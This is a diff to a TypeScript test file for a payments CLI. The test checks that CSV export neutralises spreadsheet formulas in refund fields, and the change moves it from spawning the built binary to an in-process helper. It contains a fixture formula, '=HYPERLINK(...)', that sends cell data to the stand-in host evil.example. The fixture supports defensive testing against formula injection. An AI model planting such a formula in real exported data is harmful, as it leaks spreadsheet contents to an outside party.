@@ -1,4 +1,4 @@
-// Issue 31 item 9 through the built binary: a refund's message and bank reference that a
+// Issue 31 item 9 (the commands run in-process): a refund's message and bank reference that a
 // spreadsheet would run as formulas reach `refund list -o csv` with a leading `'` (contract,
 // "Output rules"); `--csv-raw` writes them as given; amounts and plain negative numbers stay
 // numbers (settle recon's refund row, -12.50).
@@ -6,7 +6,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { spawnPgw } from '../helpers/spawn.js';
+import { pgwInProcess } from '../helpers/in-process.js';
 import { parseCsv } from '../helpers/csv.js';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
@@ -33,7 +33,7 @@ beforeAll(async () => {
 afterAll(() => rmSync(dir, { recursive: true, force: true }));
 
 async function run(args: string[]) {
-  const r = await spawnPgw(args, { env: { PGW_CONFIG_DIR: dir } });
+  const r = await pgwInProcess(args, { env: { PGW_CONFIG_DIR: dir } });
   expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(0);
   return r;
 }
